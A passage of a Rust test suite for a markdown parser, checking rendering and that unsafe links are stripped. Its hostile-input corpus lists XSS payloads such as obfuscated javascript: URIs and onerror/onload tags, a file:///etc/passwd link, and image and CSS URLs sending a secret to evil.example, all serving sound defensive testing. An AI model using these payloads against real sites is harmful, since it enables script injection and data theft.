            ("*(*foo*)*", "<p><i>(<i>foo</i>)</i></p>"),
            ("`code`", "<p><code>code</code></p>"),
            ("`` a ` b ``", "<p><code>a ` b</code></p>"),
            ("` `` `", "<p><code>``</code></p>"),
            ("`**not bold**`", "<p><code>**not bold**</code></p>"),
            ("`<script>`", "<p><code>&lt;script&gt;</code></p>"),
            ("`unclosed", "<p>`unclosed</p>"),
            ("``two`one", "<p>``two`one</p>"),
            ("`multi\nline`", "<p><code>multi line</code></p>"),
            ("\\*not em\\*", "<p>*not em*</p>"),
            ("\\[1\\]", "<p>[1]</p>"),
            ("\\\\", "<p>\\</p>"),
            ("a \\q b", "<p>a \\q b</p>"),
            ("&amp; &lt;b&gt; &#65; &#x42; &bogus; & alone", "<p>&amp; &lt;b&gt; A B &amp;bogus; &amp; alone</p>"),
            ("&#0;", "<p>\u{fffd}</p>"),
            ("*é* **日本**", "<p><i>é</i> <b>日本</b></p>"),
        ]);
    }

    #[test]
    fn links_images_and_citations() {
        check(&[
            ("[site](https://example.com)", "<p><a href=https://example.com>site</a></p>"),
            ("[t](https://e.com \"title\")", "<p><a href=https://e.com>t</a></p>"),
            ("[t](<https://e.com/a b>)", "<p><a href=https://e.com/a b>t</a></p>"),
            (
                "[wiki](https://en.wikipedia.org/wiki/Rust_(language))",
                "<p><a href=https://en.wikipedia.org/wiki/Rust_(language)>wiki</a></p>",
            ),
            ("[**bold** link](http://x.org)", "<p><a href=http://x.org><b>bold</b> link</a></p>"),
            ("*[em link](http://x.org)*", "<p><i><a href=http://x.org>em link</a></i></p>"),
            ("[mail](mailto:a@b.com)", "<p><a href=mailto:a@b.com>mail</a></p>"),
            ("[rel](/path)", "<p><a>rel</a></p>"),
            ("[empty]()", "<p><a>empty</a></p>"),
            ("[bad](javascript:alert(1))", "<p><a>bad</a></p>"),
            (
                "[a [b](http://b.com) c](http://a.com)",
                "<p>[a <a href=http://b.com>b</a> c](<a href=http://a.com>http://a.com</a>)</p>",
            ),
            ("[not a link] (http://x.com)", "<p>[not a link] (<a href=http://x.com>http://x.com</a>)</p>"),
            ("[unclosed(http://x.com)", "<p>[unclosed(<a href=http://x.com>http://x.com</a>)</p>"),
            ("![a cat](https://img.example/cat.png)", "<p><image href=https://img.example/cat.png alt=a cat></p>"),
            ("![*alt*](javascript:x)", "<p><image alt=alt></p>"),
            (
                "[![badge](https://i/b.svg)](https://ci.example)",
                "<p><a href=https://ci.example><image href=https://i/b.svg alt=badge></a></p>",
            ),
            ("Rust is fast [1] and safe [2].", "<p>Rust is fast <cite 1> and safe <cite 2>.</p>"),
            ("Both [1, 3].", "<p>Both <cite 1><cite 3>.</p>"),
            ("[1][2]", "<p><cite 1><cite 2></p>"),
            ("[0] [x] [1a] [-1] []", "<p>[0] [x] [1a] [-1] []</p>"),
            ("[12345678901]", "<p>[12345678901]</p>"),
            ("**see [4]**", "<p><b>see <cite 4></b></p>"),
            ("[see [1]](https://x.io)", "<p><a href=https://x.io>see [1]</a></p>"),
            ("![1]", "<p>![1]</p>"),
            ("<https://example.com/a?b=c>", "<p><a href=https://example.com/a?b=c>https://example.com/a?b=c</a></p>"),
            ("<me@example.com>", "<p><a href=mailto:me@example.com>me@example.com</a></p>"),
            ("<javascript:alert(1)>", "<p><a>javascript:alert(1)</a></p>"),
            ("see https://example.com/x.", "<p>see <a href=https://example.com/x>https://example.com/x</a>.</p>"),
            ("(https://example.com/a_(b))", "<p>(<a href=https://example.com/a_(b)>https://example.com/a_(b)</a>)</p>"),
            ("HTTPS://EXAMPLE.COM", "<p><a href=https://EXAMPLE.COM>HTTPS://EXAMPLE.COM</a></p>"),
            ("**https://bold.example**", "<p><b><a href=https://bold.example>https://bold.example</a></b></p>"),
            ("xhttps://no.example", "<p>xhttps://no.example</p>"),
            ("https:// nothing", "<p>https:// nothing</p>"),
            ("[https://a.com](https://b.com)", "<p><a href=https://b.com>https://a.com</a></p>"),
            ("http://a.com/foo_bar_baz", "<p><a href=http://a.com/foo_bar_baz>http://a.com/foo_bar_baz</a></p>"),
            ("[x](https://a.com/?q=1&amp;r=2)", "<p><a href=https://a.com/?q=1&r=2>x</a></p>"),
            ("[x](https://a.com/\\))", "<p><a href=https://a.com/)>x</a></p>"),
        ]);
    }

    #[test]
    fn reference_links_and_definitions() {
        check(&[
            ("[text][label]\n\n[label]: https://a.example", "<p><a href=https://a.example>text</a></p>"),
            ("[Label][]\n\n[label]: https://a.example", "<p><a href=https://a.example>Label</a></p>"),
            (
                "See [the docs].\n\n[The  DOCS]: https://d.example \"Docs\"",
                "<p>See <a href=https://d.example>the docs</a>.</p>",
            ),
            (
                "[a]: https://a.example\n[b]: <https://b.example/x y> 'B'\n\n[a] and [B]",
                "<p><a href=https://a.example>a</a> and <a href=https://b.example/x y>B</a></p>",
            ),
            // Defined after use, inside a list, on two lines, and only the first definition counts.
            (
                "[x]\n\n- item\n\n  [x]:\n  https://x.example\n  \"title\"\n[x]: https://other.example",
                "<p><a href=https://x.example>x</a></p><ul><li>item</li></ul>",
            ),
            ("[ẞ]\n\n[SS]: https://ss.example", "<p><a href=https://ss.example>ẞ</a></p>"),
            ("![logo][l]\n\n[l]: https://img.example/l.png", "<p><image href=https://img.example/l.png alt=logo></p>"),
            ("[*em* text][l]\n\n[l]: https://l.example", "<p><a href=https://l.example><i>em</i> text</a></p>"),
            // Undefined labels stay text; a full reference to an undefined label makes no link.
            (
                "[nope] [text][nope] [a][]\n\n[a]: https://a.example",
                "<p>[nope] [text][nope] <a href=https://a.example>a</a></p>",
            ),
            ("[a][nope]\n\n[a]: https://a.example", "<p>[a][nope]</p>"),
            // Unsafe or relative targets keep the text and lose the link.
            ("[x][e]\n\n[e]: javascript:alert(1)", "<p><a>x</a></p>"),
            ("[x]\n\n[x]: /relative", "<p><a>x</a></p>"),
            ("[x]\n\n[x]: data:text/html,<script>alert(1)</script>", "<p><a>x</a></p>"),
            // Citations still work, unless the number is a defined label.
            (
                "Fast [1] and [2].\n\n[2]: https://two.example",
                "<p>Fast <cite 1> and <a href=https://two.example>2</a>.</p>",
            ),
            // Not definitions: no colon, no destination, text after the title, in a paragraph.
            ("[a]:\n\n[a]", "<p>[a]:</p><p>[a]</p>"),
            (
                "[a]: https://a.example \"t\" junk\n\n[a]",
                "<p>[a]: <a href=https://a.example>https://a.example</a> \"t\" junk</p><p>[a]</p>",
            ),
            (
                "para\n[a]: https://a.example\n\n[a]",
                "<p>para\n[a]: <a href=https://a.example>https://a.example</a></p><p>[a]</p>",
            ),
            ("Only definitions\n\n[a]: https://a.example\n[b]: https://b.example", "<p>Only definitions</p>"),
            ("[a]: https://a.example\n===", "<p>===</p>"),
        ]);
    }

    #[test]
    fn named_entities_from_the_compact_table() {
        let names: Vec<&str> = entities::ENTITIES.iter().map(|(n, _)| *n).collect();
        assert!(names.windows(2).all(|w| w[0] < w[1]), "the table is sorted and has no duplicates");
        assert!(names.len() > 300 && names.len() < 500, "{} entries", names.len());
        check(&[
            ("&rarr; &frac34; &copy; &hellip; &mdash; &euro; &check; &ne;", "<p>→ ¾ © … — € ✓ ≠</p>"),
            (
                "&nbsp;&AElig; &Dcaron; &HilbertSpace; &DifferentialD; &ClockwiseContourIntegral; &ngE;",
                "<p>\u{a0}Æ Ď ℋ ⅆ ∲ ≧̸</p>",
            ),
            (
                "&MadeUpEntity; &ThisIsNotDefined; &copy &x; &RARR;",
                "<p>&amp;MadeUpEntity; &amp;ThisIsNotDefined; &amp;copy &amp;x; &amp;RARR;</p>",
            ),
            ("`&rarr;` &lt;b&gt;", "<p><code>&amp;rarr;</code> &lt;b&gt;</p>"),
            ("[a](https://x.example/&quot;&rarr;)", "<p><a href=https://x.example/\"→>a</a></p>"),
        ]);
    }

    #[test]
    fn fence_info_strings_are_decoded() {
        check(&[
            ("``` foo\\+bar\nx\n```", "<pre foo+bar>x</pre>"),
            ("``` f&ouml;&ouml;\nx\n```", "<pre föö>x</pre>"),
            ("~~~ c&#43;&#43; extra\nx\n~~~", "<pre c++>x</pre>"),
        ]);
    }

    #[test]
    fn list_items_follow_the_marker_width() {
        check(&[
            // `10) ` is four columns wide: a sublist must start at column 4.
            ("10) foo\n    - bar", "<ol start=10><li><p>foo</p><ul><li>bar</li></ul></li></ol>"),
            ("10) foo\n   - bar", "<ol start=10><li>foo</li></ol><ul><li>bar</li></ul>"),
            ("1.  two spaces\n    continue", "<ol><li>two spaces\ncontinue</li></ol>"),
            ("-   a\n\n    b", "<ul><li><p>a</p><p>b</p></li></ul>"),
            ("-   a\n\n  b", "<ul><li>a</li></ul><p>b</p>"),
            // Items indented 0-3 columns are siblings, not sublists.
            ("1. a\n\n  2. b\n\n   3. c", "<ol><li>a</li><li>b</li><li>c</li></ol>"),
            ("- a\n - b\n  - c\n   - d\n    - e", "<ul><li>a</li><li>b</li><li>c</li><li>d\n- e</li></ul>"),
            // An empty item ends at a blank line; siblings may follow.
            ("-\n\n  foo", "<ul><li></li></ul><p>foo</p>"),
            ("* a\n*\n\n* c", "<ul><li>a</li><li></li><li>c</li></ul>"),
            // Five spaces after the marker: content starts one column after it.
            ("-     code-ish", "<ul><li>code-ish</li></ul>"),
            ("- a\n2. b", "<ul><li>a</li></ul><ol start=2><li>b</li></ol>"),
            ("> a\nb\n===", "<blockquote><p>a\nb\n===</p></blockquote>"),
        ]);
    }

    #[test]
    fn bare_email_addresses_become_mailto_links() {
        check(&[
            ("Write to help@example.com.", "<p>Write to <a href=mailto:help@example.com>help@example.com</a>.</p>"),
            (
                "a.b-c+d_e@mail.example.co.uk",
                "<p><a href=mailto:a.b-c+d_e@mail.example.co.uk>a.b-c+d_e@mail.example.co.uk</a></p>",
            ),
            ("(ops@x.io)", "<p>(<a href=mailto:ops@x.io>ops@x.io</a>)</p>"),
            ("**me@x.io**", "<p><b><a href=mailto:me@x.io>me@x.io</a></b></p>"),
            ("foo_bar@x.io", "<p><a href=mailto:foo_bar@x.io>foo_bar@x.io</a></p>"),
            // Not addresses: no dot in the domain, a domain ending in - or _, no local part, a URL's user.
            ("me@localhost", "<p>me@localhost</p>"),
            ("me@x.io- and me@x.io_", "<p>me@x.io- and me@x.io_</p>"),
            ("@handle and a@.io", "<p>@handle and a@.io</p>"),
            ("ftp://user@host.example", "<p>ftp://user@host.example</p>"),
            (
                "https://user@host.example/x",
                "<p><a href=https://user@host.example/x>https://user@host.example/x</a></p>",
            ),
            ("`me@x.io`", "<p><code>me@x.io</code></p>"),
            ("[mail me@x.io](https://x.io)", "<p><a href=https://x.io>mail me@x.io</a></p>"),
            ("a\\_b@x.io", "<p>a_b@x.io</p>"),
        ]);
    }

    #[test]
    fn raw_html_is_literal_text() {
        check(&[
            ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
            ("<b>bold?</b>", "<p>&lt;b&gt;bold?&lt;/b&gt;</p>"),
            ("<img src=x onerror=alert(1)>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
            ("<div>\n*md* inside\n</div>", "<p>&lt;div&gt;\n<i>md</i> inside\n&lt;/div&gt;</p>"),
            ("<!-- comment -->", "<p>&lt;!-- comment --&gt;</p>"),
            ("a < b > c", "<p>a &lt; b &gt; c</p>"),
            ("&lt;script&gt;", "<p>&lt;script&gt;</p>"),
        ]);
    }

    #[test]
    fn lists() {
        check(&[
            ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
            ("* a\n* b", "<ul><li>a</li><li>b</li></ul>"),
            ("+ a", "<ul><li>a</li></ul>"),
            ("1. a\n2. b", "<ol><li>a</li><li>b</li></ol>"),
            ("3) c\n4) d", "<ol start=3><li>c</li><li>d</li></ol>"),
            ("- a\n+ b", "<ul><li>a</li></ul><ul><li>b</li></ul>"),
            ("1. a\n- b", "<ol><li>a</li></ol><ul><li>b</li></ul>"),
            (
                "- a\n  - b\n    - c\n- d",
                "<ul><li><p>a</p><ul><li><p>b</p><ul><li>c</li></ul></li></ul></li><li>d</li></ul>",
            ),
            // Under-indented: the content column of `1. ` is 3, so `  - b` starts a new list.
            ("1. a\n  - b\n  - c\n2. d", "<ol><li>a</li></ol><ul><li>b</li><li>c</li></ul><ol start=2><li>d</li></ol>"),
            ("1. a\n   - b\n2. c", "<ol><li><p>a</p><ul><li>b</li></ul></li><li>c</li></ol>"),
            ("- a\n\n- b", "<ul><li>a</li><li>b</li></ul>"),
            ("- a\n\n  more a\n- b", "<ul><li><p>a</p><p>more a</p></li><li>b</li></ul>"),
            ("- a\nlazy", "<ul><li>a\nlazy</li></ul>"),
            ("- a\n\nafter", "<ul><li>a</li></ul><p>after</p>"),
            ("- **bold** item", "<ul><li><b>bold</b> item</li></ul>"),
            ("-not a list", "<p>-not a list</p>"),
            ("para\n- interrupts", "<p>para</p><ul><li>interrupts</li></ul>"),
            ("In 2024\n1. starts", "<p>In 2024</p><ol><li>starts</li></ol>"),
            ("The year\n2024. was long", "<p>The year\n2024. was long</p>"),
            ("-\n  foo", "<ul><li>foo</li></ul>"),
            ("- ```\n  code\n  ```\n- b", "<ul><li><pre>code</pre></li><li>b</li></ul>"),
            ("- > quoted", "<ul><li><blockquote><p>quoted</p></blockquote></li></ul>"),
            ("- # head", "<ul><li><h1>head</h1></li></ul>"),
            ("- a\n---", "<ul><li>a</li></ul><hr>"),
            ("- - -", "<hr>"),
            ("- - x", "<ul><li><ul><li>x</li></ul></li></ul>"),
            ("-\tTab", "<ul><li>Tab</li></ul>"),
            ("10. ten\n11. eleven", "<ol start=10><li>ten</li><li>eleven</li></ol>"),
            ("1234567890. too long", "<p>1234567890. too long</p>"),
        ]);
    }

    #[test]
    fn code_blocks() {
        check(&[
            ("```\ncode\n```", "<pre>code</pre>"),
            ("```rust\nfn main() {}\n```", "<pre rust>fn main() {}</pre>"),
            ("```rust ignore\nx\n```", "<pre rust>x</pre>"),
            ("~~~py\nprint(1)\n~~~", "<pre py>print(1)</pre>"),
            ("```\n<script>alert(1)</script>\n```", "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>"),
            ("```\n**not md**\n\n# nor this\n```", "<pre>**not md**\n\n# nor this</pre>"),
            ("```\nunterminated\nruns on", "<pre>unterminated\nruns on</pre>"),
            ("````\n```\ninner\n```\n````", "<pre>```\ninner\n```</pre>"),
            ("~~~\n```\n~~~", "<pre>```</pre>"),
            ("```\n\tkeeps\ttabs\n```", "<pre>\tkeeps\ttabs</pre>"),
            ("  ```\n  two\n    four\n  ```", "<pre>two\n  four</pre>"),
            ("para\n```\ncode\n```", "<p>para</p><pre>code</pre>"),
            ("``` a`b\nnot a fence", "<p>``` a`b\nnot a fence</p>"),
            ("```\n```", "<pre></pre>"),
        ]);
    }

    #[test]
    fn quotes() {
        check(&[
            ("> quoted", "<blockquote><p>quoted</p></blockquote>"),
            (">no space", "<blockquote><p>no space</p></blockquote>"),
            ("> a\n> b", "<blockquote><p>a\nb</p></blockquote>"),
            ("> a\nlazy", "<blockquote><p>a\nlazy</p></blockquote>"),
            ("> a\n\nout", "<blockquote><p>a</p></blockquote><p>out</p>"),
            ("> > nested", "<blockquote><blockquote><p>nested</p></blockquote></blockquote>"),
            ("> # h\n> - i", "<blockquote><h1>h</h1><ul><li>i</li></ul></blockquote>"),
            ("> ```\n> code\n> ```", "<blockquote><pre>code</pre></blockquote>"),
            ("> ```\n> code\nnot lazy", "<blockquote><pre>code</pre></blockquote><p>not lazy</p>"),
            ("> a\n---", "<blockquote><p>a</p></blockquote><hr>"),
        ]);
    }

    #[test]
    fn tables() {
        check(&[
            (
                "| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 | 4 |",
                "<table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr><tr><td>3</td><td>4</td></tr></table>",
            ),
            ("a | b\n--|--\n1 | 2", "<table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>"),
            (
                "| a | b |\n|---|---|\n| only |\n| 1 | 2 | 3 |",
                "<table><tr><th>a</th><th>b</th></tr><tr><td>only</td><td></td></tr><tr><td>1</td><td>2</td></tr></table>",
            ),
            ("| **b** | `c\\|d` |\n|--|--|", "<table><tr><th><b>b</b></th><th><code>c|d</code></th></tr></table>"),
            ("| x |\n|---|\n| [1] |", "<table><tr><th>x</th></tr><tr><td><cite 1></td></tr></table>"),
            ("intro\n| a |\n| - |", "<p>intro</p><table><tr><th>a</th></tr></table>"),
            ("| a |\n|---|\n| 1 |\n\nafter", "<table><tr><th>a</th></tr><tr><td>1</td></tr></table><p>after</p>"),
            ("| a |\n|---|\n| 1 |\n# h", "<table><tr><th>a</th></tr><tr><td>1</td></tr></table><h1>h</h1>"),
            ("| a | b |\n|---|", "<p>| a | b |\n|---|</p>"),
            ("| a |\n| b |", "<p>| a |\n| b |</p>"),
            ("a | b\n---", "<h2>a | b</h2>"),
        ]);
    }

    #[test]
    fn safe_href_allows_only_web_and_mail_links() {
        let allowed: &[(&str, &str)] = &[
            ("https://example.com", "https://example.com"),
            ("http://example.com/a?b#c", "http://example.com/a?b#c"),
            ("HTTPS://Example.com", "https://Example.com"),
            ("  https://padded.example  ", "https://padded.example"),
            ("\u{1}https://ctrl.example", "https://ctrl.example"),
            ("ht\ttp://tab.example", "http://tab.example"),
            ("https://exa\nmple.com", "https://example.com"),
            ("mailto:me@example.com", "mailto:me@example.com"),
            ("MAILTO:me@example.com", "mailto:me@example.com"),
        ];
        for (raw, expected) in allowed {
            assert_eq!(safe_href(raw).as_deref(), Some(*expected), "raw: {raw:?}");
        }
        let rejected = [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java\tscript:alert(1)",
            "java\nscript:alert(1)",
            "java\0script:alert(1)",
            " javascript:alert(1)",
            "\u{1}javascript:alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6A;avascript:alert(1)",
            "javascript&colon;alert(1)",
            "%6Aavascript:alert(1)",
            "ｊavascript:alert(1)",
            "java\u{200b}script:alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html,<script>alert(1)</script>",
            "DATA:text/html;base64,PHNjcmlwdD4=",
            "file:///etc/passwd",
            "blob:https://x/123",
            "ftp://example.com",
            "/relative/path",
            "//protocol-relative.example",
            "relative",
            "#fragment",
            "?query",
            "",
            "   ",
            "https:",
            "https:/",
            "https://",
            "http:example.com",
            "https:\\\\evil.example",
            "mailto:",
            "https://evil.example/\u{202e}fdp.exe",
            "\u{202e}https://x",
        ];
        for raw in rejected {
            assert_eq!(safe_href(raw), None, "raw: {raw:?}");
        }
    }

    fn walk_inlines<'a>(inlines: &'a [Inline], out: &mut Vec<&'a Inline>) {
        for inline in inlines {
            out.push(inline);
            match inline {
                Inline::Strong(c) | Inline::Emphasis(c) | Inline::Strike(c) => walk_inlines(c, out),
                Inline::Link { children, .. } => walk_inlines(children, out),
                _ => {}
            }
        }
    }

    fn all_inlines(blocks: &[Block]) -> Vec<&Inline> {
        let mut out = Vec::new();
        for block in blocks {
            match block {
                Block::Heading { inlines, .. } | Block::Paragraph(inlines) => walk_inlines(inlines, &mut out),
                Block::List { items, .. } => {
                    for item in items {
                        out.extend(all_inlines(item));
                    }
                }
                Block::Quote(blocks) => out.extend(all_inlines(blocks)),
                Block::Table { header, rows } => {
                    for cell in header.iter().chain(rows.iter().flatten()) {
                        walk_inlines(cell, &mut out);
                    }
                }
                Block::CodeBlock { .. } | Block::Rule => {}
            }
        }
        out
    }

    fn hrefs(blocks: &[Block]) -> Vec<String> {
        all_inlines(blocks)
            .into_iter()
            .filter_map(|i| match i {
                Inline::Link { href, .. } | Inline::ImagePlaceholder { href, .. } => href.clone(),
                _ => None,
            })
            .map(SafeUrl::into_string)
            .collect()
    }

    /// All text a reader would see, code included.
    fn visible_text(blocks: &[Block]) -> String {
        let mut out = String::new();
        for block in blocks {
            match block {
                Block::Heading { inlines, .. } | Block::Paragraph(inlines) => out.push_str(&plain_text(inlines)),
                Block::List { items, .. } => {
                    for item in items {
                        out.push_str(&visible_text(item));
                    }
                }
                Block::Quote(blocks) => out.push_str(&visible_text(blocks)),
                Block::Table { header, rows } => {
                    for cell in header.iter().chain(rows.iter().flatten()) {
                        out.push_str(&plain_text(cell));
                    }
                }
                Block::CodeBlock { code, .. } => out.push_str(code),
                Block::Rule => {}
            }
            out.push('\n');
        }
        out
    }

    fn assert_safe(blocks: &[Block], input: &str) {
        for href in hrefs(blocks) {
            let scheme_ok = ["http://", "https://", "mailto:"].iter().any(|p| href.starts_with(p));
            assert!(scheme_ok, "unsafe href {href:?} from {input:?}");
            assert!(!href.chars().any(|c| c.is_ascii_control() || is_bidi_control(c)), "{href:?}");
            assert_eq!(safe_href(&href).as_deref(), Some(href.as_str()), "not a fixed point");
        }
    }

    fn container_depth(blocks: &[Block]) -> usize {
        blocks
            .iter()
            .map(|b| match b {
                Block::Quote(inner) => 1 + container_depth(inner),
                Block::List { items, .. } => 1 + items.iter().map(|i| container_depth(i)).max().unwrap_or(0),
                _ => 0,
            })
            .max()
            .unwrap_or(0)
    }

    fn inline_depth(inlines: &[Inline]) -> usize {
        inlines
            .iter()
            .map(|i| match i {
                Inline::Strong(c) | Inline::Emphasis(c) | Inline::Strike(c) => 1 + inline_depth(c),
                Inline::Link { children, .. } => 1 + inline_depth(children),
                _ => 0,
            })
            .max()
            .unwrap_or(0)
    }

    fn hostile_corpus() -> Vec<String> {
        let mut corpus: Vec<String> = [
            "[click](javascript:alert(1))",
            "[click](JAVASCRIPT:alert(1))",
            "[click](JaVaScRiPt:alert(document.cookie))",
            "[click]( javascript:alert(1) )",
            "[click](<javascript:alert(1)>)",
            "[click](java\tscript:alert(1))",
            "[click](<java\tscript:alert(1)>)",
            "[click](java&#x09;script:alert(1))",
            "[click](&#106;avascript:alert(1))",
            "[click](&#x6A;avascript:alert(1))",
            "[click](&#0000106;avascript:alert(1))",
            "[click](javascript&colon;alert(1))",
            "[click](javas\\cript:alert(1))",
            "[click](\\javascript:alert(1))",
            "[click](%6Aavascript:alert(1))",
            "[click](vbscript:msgbox(1))",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[click](data:text/html,<script>alert(1)</script>)",
            "[click](file:///etc/passwd)",
            "[click](//evil.example)",
            "[click](\"javascript:alert(1)\")",
            "[a](javascript:alert(1) \"title\")",
            "<javascript:alert(1)>",
            "<JAVASCRIPT:alert(1)>",
            "<data:text/html,hi>",
            "<vbscript:x>",
            "javascript:alert(1)",
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<style>body{background:url(https://evil.example/leak)}</style>",
            "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
            "![x](javascript:alert(1))",
            "![x](https://evil.example/collect?secret=API_KEY_HERE)",
            "![x](data:image/svg+xml,<svg onload=alert(1)>)",
            "![x](<https://evil.example/a b>)",
            "[![x](https://evil.example/pixel.gif)](javascript:alert(1))",
            "[text](https://ok.example/\u{202e}gpj.exe)",
            "\u{202e}[text](https://ok.example)",
            "user\u{202e}moc.elgoog@evil.example",
            "[\u{202e}evil](https://ok.example)",
            "NUL\0in\0text [x](java\0script:alert(1))",
            "[x](https://ok.example/\0path)",
            "\u{feff}# BOM heading",
            "```\n<script>alert(1)</script>\n```",
            "`<img src=x onerror=alert(1)>`",
            "| <script> | [x](javascript:y) |\n|---|---|\n| <img onerror=z> | ![i](https://e/i) |",
            "> [x](javascript:alert(1))\n> <script>",
            "- [x](javascript:alert(1))\n  - <svg onload=alert(1)>",
            "https://ok.example/<script>alert(1)</script>",
            "http://ok.example/\"onmouseover=\"alert(1)",
            "[x](https://ok.example\" onclick=\"alert(1))",
            "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
            "[x](&#x68;&#x74;&#x74;&#x70;&#x73;://ok.example)",
        ]
        .iter()
        .map(|s| (*s).to_owned())
        .collect();
        corpus.extend([
            "*".repeat(20_000),
            "_".repeat(20_000),
            "~".repeat(20_000),
            "`".repeat(20_000),
            "*a".repeat(10_000),
            "**a*".repeat(6_000),
            "_a_ b_".repeat(4_000),
            format!("{}a{}", "*".repeat(10_000), "*".repeat(10_000)),
            format!("{}a{}", "**".repeat(5_000), "*".repeat(10_000)),
            "[".repeat(20_000),
            "]".repeat(20_000),
            "![".repeat(10_000),
            "[a](".repeat(6_000),
            "[a](b ".repeat(4_000),
            "[a](<".repeat(6_000),
            "[a](b \"".repeat(4_000),
            format!("{}a{}", "[".repeat(10_000), "](x)".repeat(10_000)),
            format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)),
            format!("{}{}", "[1".repeat(6_000), "]".repeat(6_000)),
            "[a]".repeat(6_000),
            "<".repeat(20_000),
            "<a".repeat(10_000),
            "&".repeat(20_000),
            "&#".repeat(10_000),
            "\\".repeat(20_000),
            "` ``".repeat(6_000),
            (1..1_000)
                .map(|n| "`".repeat(n % 50 + 1))
                .collect::<Vec<_>>()
                .join("x"),
            "http://".repeat(6_000),
            "https://a".repeat(4_000),
            ">".repeat(2_000) + " deep",
            "> ".repeat(2_000) + "deep",
            (0..2_000)
                .map(|n| format!("{}>", " ".repeat(n % 4)))
                .collect::<String>(),
            "- ".repeat(2_000) + "deep",
            "1. ".repeat(2_000) + "deep",
            (0..400)
                .map(|n| format!("{}- item\n", "  ".repeat(n)))
                .collect(),
            (0..400)
                .map(|n| format!("{}> q\n", " ".repeat(n % 3)))
                .collect(),
            "|".repeat(20_000),
            format!(
                "{}\n{}\n{}",
                "|a".repeat(1_000),
                "|-".repeat(1_000),
                "|x\n".repeat(1_000)
            ),
            format!(
                "{}\n{}\n{}",
                "|a".repeat(100),
                "|-".repeat(100),
                "|\n".repeat(2_000)
            ),
            "```\n".repeat(4_000),
            "# ".repeat(4_000),
            "a  \n".repeat(4_000),
            "é*ü_漢~~字`🦀[\u{202e}]\u{0}".repeat(1_000),
            "\u{10ffff}\u{fffd}\u{200d}".repeat(2_000),
            "\n".repeat(20_000),
            "\r".repeat(20_000),
            "\t".repeat(20_000),
            "# T\n\nSome *em* and **strong** [1] https://x.example/a_b `c` <b>\n\n- item [x](javascript:y)\n> q\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n".repeat(1_000),
                   // Reference links: many uses, many definitions, long labels, brackets around labels.
            format!("{}\n\n[a]: https://x.example\n", "[a]".repeat(6_000)),
            format!("{}\n\n[a]: https://x.example\n", "[a][".repeat(6_000)),
            format!("{}\n\n[a]: https://x.example\n", "[a][]".repeat(6_000)),
            "[x]: https://x.example\n".repeat(5_000),
            "[x]:\n".repeat(8_000),
            format!("{}[a]: javascript:alert(1)\n\n[a]", "[a]: <javascript:x>\n".repeat(2_000)),
            format!("{}{}{}\n\n[a]: https://x.example", "[".repeat(5_000), "a".repeat(3_000), "]".repeat(5_000)),
            format!("{}\n\n[{}]: https://x.example", "[b]".repeat(2_000), "b ".repeat(2_000)),
            // Bare e-mail addresses.
            "a@".repeat(10_000),
            "a@b.".repeat(6_000),
            "@".repeat(20_000),
            "a.b.c@".repeat(5_000),
            "&rarr;&frac34;&ClockwiseContourIntegral;&zzzz;".repeat(2_000),
        ]);
        corpus
    }

    #[test]
    fn hostile_inputs_never_yield_an_unsafe_link() {
        let corpus = hostile_corpus();
        assert!(corpus.len() >= 40);
        for input in &corpus {
            let blocks = parse(input);
            assert_safe(&blocks, input);
            assert!(container_depth(&blocks) <= MAX_DEPTH + 1, "too deep for {:?}", input.get(..40));
            for inline in all_inlines(&blocks) {
                if let Inline::Link { children, .. } = inline {
                    assert!(all_inlines(&[Block::Paragraph(children.clone())])
                        .iter()
                        .all(|i| !matches!(i, Inline::Link { .. })));
                }
            }
        }
    }

    #[test]
    fn hostile_links_keep_their_text_but_lose_the_target() {
        for input in hostile_corpus().iter().filter(|s| s.starts_with("[click](")) {
            let blocks = parse(input);
            assert!(hrefs(&blocks).is_empty(), "{input:?} kept a link");
            assert!(visible_text(&blocks).contains("click"), "{input:?} lost its text");
        }
    }

    #[test]
    fn raw_html_in_the_corpus_comes_out_verbatim() {
        let html_inputs = [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
        ];
        for input in html_inputs {
            let blocks = parse(input);
            assert!(visible_text(&blocks).contains(input), "{input:?} became {blocks:?}");
            assert!(hrefs(&blocks).iter().all(|h| h.starts_with("https://")));
        }
        let blocks = parse("<style>body{background:url(https://evil.example/leak)}</style>");
        assert!(visible_text(&blocks).contains("<style>body{background:url("));
    }

    #[test]
    fn images_are_placeholders_never_loaded() {
        let blocks = parse("![x](https://evil.example/collect?secret=API_KEY_HERE) ![y](javascript:alert(1))");
        let placeholders: Vec<_> = all_inlines(&blocks)
            .into_iter()
            .filter_map(|i| match i {
                Inline::ImagePlaceholder { alt, href } => Some((alt.clone(), href.clone().map(SafeUrl::into_string))),
                _ => None,
            })
            .collect();
        assert_eq!(
            placeholders,
            vec![
                ("x".to_owned(), Some("https://evil.example/collect?secret=API_KEY_HERE".to_owned())),
                ("y".to_owned(), None)
            ]
        );
    }

    #[test]
    fn nesting_is_capped_and_the_rest_stays_text() {
        let quotes = parse(&(">".repeat(10_000) + " deep"));
        assert_eq!(container_depth(&quotes), MAX_DEPTH);
